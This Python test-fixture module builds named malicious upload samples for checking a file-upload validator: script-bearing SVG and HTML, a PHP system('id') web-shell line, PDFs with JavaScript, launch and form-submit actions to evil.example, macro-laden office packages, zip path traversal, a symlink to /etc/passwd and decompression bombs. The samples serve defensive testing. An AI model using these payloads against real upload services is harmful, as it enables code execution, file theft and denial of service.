"""Files that nobody should take: made here, each with the name of its trick. Nothing in them does anything."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image

Trick = tuple[str, str, bytes]  # what it tries, the name it is sent under, its bytes

_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">%s</Types>'


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40), **more: object) -> bytes:
    """A small picture with a little in it."""
    made = Image.new("RGB", size, (20, 80, 92))
    made.putpixel((3, 3), (250, 200, 60))
    out = io.BytesIO()
    made.save(out, kind, **more)
    return out.getvalue()


def located() -> bytes:
    """A picture that says where it was taken, turned on its side, with a comment and words of the maker."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by a quarter
    exif[0x010E] = "SECRET-DESCRIPTION"
    exif.get_ifd(0x8825).update({1: "N", 2: (50.0, 6.0, 9.0), 3: "W", 4: (5.0, 16.0, 27.0), 29: "SECRET-PLACE"})
    return picture(exif=exif.tobytes(), comment=b"SECRET-COMMENT")


def pdf(body: bytes = b"", tail: bytes = b"%%EOF\n") -> bytes:
    """A PDF of one empty page, with more objects in it."""
    return (
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\n"
        b"endobj\n3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>\nendobj\n" + body + b"trailer\n"
        b"<</Root 1 0 R/Size 4>>\nstartxref\n9\n" + tail
    )


def packed(body: bytes) -> bytes:
    """An object stream of a PDF."""
    made = zlib.compress(body)
    head = b"9 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(made)
    return head + made + b"\nendstream\nendobj\n"


def package(*parts: tuple[str, bytes], types: bytes = b"", main: str = "word/document.xml") -> bytes:
    """An office file with these parts in it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _TYPES % types)
        archive.writestr(main, b"<document/>")
        for name, body in parts:
            archive.writestr(name, body)
    return out.getvalue()


def opendocument(*parts: tuple[str, bytes], kind: bytes = b"application/vnd.oasis.opendocument.text") -> bytes:
    """A text of OpenDocument."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", kind)
        archive.writestr("content.xml", b"<office:document-content/>")
        for name, body in parts:
            archive.writestr(name, body)
    return out.getvalue()


def _linked() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", _TYPES % b"")
        archive.writestr("word/document.xml", b"<document/>")
        link = zipfile.ZipInfo("word/media/link")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _locked() -> bytes:
    made = bytearray(package())
    made[6] |= 1
    at = made.index(b"PK\x01\x02")
    made[at + 8] |= 1
    return bytes(made)


def _twice() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", _TYPES % b"")
        archive.writestr("word/document.xml", b"<document/>")
        archive.writestr("word/document.xmm", b"<other/>")
    return out.getvalue().replace(b"word/document.xmm", b"word/document.xml")


def _flood(side: int) -> bytes:
    """The head of a PNG that claims to be ``side`` points wide and high."""
    head = b"IHDR" + struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    data = b"IDAT" + zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(chunk) - 4) + chunk + struct.pack(">I", zlib.crc32(chunk))
        for chunk in (head, data, b"IEND")
    )


def _gif() -> bytes:
    return picture("GIF")


def pictures() -> Iterator[Trick]:
    """What is sent as a picture and is none, or one that is made to do harm."""
    good = picture()
    yield "empty", "a.jpg", b""
    yield "a drawing that runs", "a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield "a drawing called a photo", "a.jpg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield "a page called a photo", "a.png", b"<!doctype html><script>alert(1)</script>"
    yield "a program called a photo", "a.jpg", b"MZ" + bytes(200)
    yield "a program of Linux", "a.png", b"\x7fELF" + bytes(200)
    yield "a script of a server", "a.php.jpg", b"<?php system('id'); ?>"
    yield "cut after the head", "a.jpg", good[:40]
    yield "cut in the middle", "a.jpg", picture(size=(900, 900), quality=95)[:5000]
    yield "a head and noise", "a.jpg", good[:20] + random.Random(1).randbytes(3000)
    yield "a flood of points, 30,000 wide", "a.png", _flood(30_000)
    yield "a flood of points, 9,000 wide", "a.png", _flood(9_000)
    yield "wide beyond number", "a.png", _flood(0x7FFFFFFF)
    yield "no width", "a.png", _flood(0)
    yield "a moving picture", "a.gif", _gif()
    yield "a moving picture called a photo", "a.jpg", _gif()
    yield "a bitmap", "a.bmp", picture("BMP")
    yield "a scan", "a.tiff", picture("TIFF")
    yield "an icon", "a.ico", picture("ICO")
    yield "a drawing of PostScript", "a.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) run\n"
    yield "a PDF called a photo", "a.jpg", pdf()
    yield "a package called a photo", "a.png", package()
    yield "too many bytes", "a.jpg", good + bytes(16 * 1024 * 1024)
    png = picture("PNG")
    yield "a broken check sum", "a.png", png[:40] + bytes([png[40] ^ 255]) + png[41:]
    yield "text that unpacks to much", "a.png", _text_bomb(png)


def _text_bomb(png: bytes) -> bytes:
    """A picture whose text of 60 kB unpacks to 60 MB."""
    chunk = b"zTXtComment\0\0" + zlib.compress(b"x" * 60_000_000, 9)
    made = struct.pack(">I", len(chunk) - 4) + chunk + struct.pack(">I", zlib.crc32(chunk))
    return png[:33] + made + png[33:]


def papers() -> Iterator[Trick]:
    """What is sent as a document and is none, or one that is made to do harm."""
    yield "empty", "a.pdf", b""
    yield "a page", "a.html", b"<script>alert(1)</script>"
    yield "a page called a PDF", "a.pdf", b"<html><script>alert(1)</script></html>"
    yield "a program", "a.exe", b"MZ" + bytes(100)
    yield "a program with two endings", "a.pdf.exe", b"MZ" + bytes(100)
    yield "a name turned round", "annual\u202efdp.exe", b"MZ" + bytes(100)
    yield "a name without an ending", "agreement", pdf()
    yield "a package", "a.zip", package()
    yield "a file of a shell", "a.sh", b"#!/bin/sh\nid\n"
    yield "a script of a shell as text", "a.txt", b"#!/bin/sh\nid\n"
    yield "a page as text", "a.txt", b"  <!DOCTYPE html><script>alert(1)</script>"
    yield "a drawing as a sheet", "a.csv", b"<svg onload=alert(1)>"
    yield "a program as text", "a.txt", b"MZ\x00\x01" + bytes(50)
    yield "letters that cannot be read", "a.csv", b"name\xff\xfe\xfa,1\n"
    yield "a PDF cut off", "a.pdf", pdf(tail=b"")
    yield "a PDF behind a picture", "a.pdf", picture() + pdf()
    yield "a script", "a.pdf", pdf(b"4 0 obj\n<</S/JavaScript/JS(app.alert\\(1\\))>>\nendobj\n")
    yield "a script with a disguised name", "a.pdf", pdf(b"4 0 obj\n<</S/J#61vaScr#69pt/JS(x)>>\nendobj\n")
    yield "a script in a packed object", "a.pdf", pdf(packed(b"4 0 <</S/JavaScript/JS(x)>>"))
    yield "a disguised script in a packed object", "a.pdf", pdf(packed(b"4 0 <</S/Java#53cript/JS(x)>>"))
    yield "it starts a program", "a.pdf", pdf(b"4 0 obj\n<</S/Launch/F(calc.exe)>>\nendobj\n")
    yield "a file inside", "a.pdf", pdf(b"4 0 obj\n<</Type/EmbeddedFile/Length 0>>\nstream\n\nendstream\nendobj\n")
    yield "a form that sends", "a.pdf", pdf(b"4 0 obj\n<</S/SubmitForm/F(http://evil.example)>>\nendobj\n")
    yield "film inside", "a.pdf", pdf(b"4 0 obj\n<</Subtype/RichMedia>>\nendobj\n")
    yield "a form that is a program", "a.pdf", pdf(packed(b"<xdp:xdp xmlns:xdp='x'><script/></xdp:xdp>"))
    yield "locked", "a.pdf", pdf().replace(b"/Size 4", b"/Size 4/Encrypt 5 0 R")
    yield "a PDF that unpacks to much", "a.pdf", pdf(packed(bytes(140 * 1024 * 1024)))
    yield "too many bytes", "a.pdf", pdf(bytes(21 * 1024 * 1024))
    yield "a text with macros", "a.docx", package(("word/vbaProject.bin", b"x"))
    yield "macros named by their type", "a.docx", package(types=b"<Override ContentType='a.macroEnabled.main+xml'/>")
    yield "a text of macros by name", "a.docm", package(("word/vbaProject.bin", b"x"))
    yield "a sheet with old macros", "a.xlsx", package(("xl/macrosheets/sheet1.xml", b"x"), main="xl/workbook.xml")
    yield "controls that run", "a.docx", package(("word/activeX/activeX1.bin", b"x"))
    yield "a program inside", "a.docx", package(("word/media/run.exe", b"MZ"))
    yield "another file inside", "a.docx", package(("word/embeddings/oleObject1.bin", b"x"))
    yield (
        "a pattern loaded from elsewhere",
        "a.docx",
        package(
            (
                "word/_rels/settings.xml.rels",
                b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" '
                b'TargetMode="External"/>',
            )
        ),
    )
    yield "definitions that grow", "a.docx", package(("word/styles.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'))
    yield "out of its place", "a.docx", package(("../../evil.txt", b"x"))
    yield "out of its place on Windows", "a.docx", package(("..\\..\\evil.txt", b"x"))
    yield "from the root", "a.docx", package(("/etc/cron.d/evil", b"x"))
    yield "a link to another file", "a.docx", _linked()
    yield "a locked package", "a.docx", _locked()
    yield "one part twice", "a.docx", _twice()
    yield "ten thousand parts", "a.docx", package(*((f"word/p{n}.xml", b"") for n in range(10_000)))
    yield "a package that unpacks to much", "a.docx", package(("word/big.xml", bytes(160 * 1024 * 1024)))
    yield "a text called a sheet", "a.xlsx", package()
    yield "a package cut off", "a.docx", package()[:-30]
    yield "no package", "a.docx", b"PK\x03\x04" + bytes(100)
    yield "OpenDocument with macros", "a.odt", opendocument(("Basic/Standard/Module1.xml", b"x"))
    yield "OpenDocument of another kind", "a.odt", opendocument(kind=b"application/vnd.oasis.opendocument.text-master")
    yield "OpenDocument with a page inside", "a.odt", opendocument(("Pictures/a.html", b"x"))
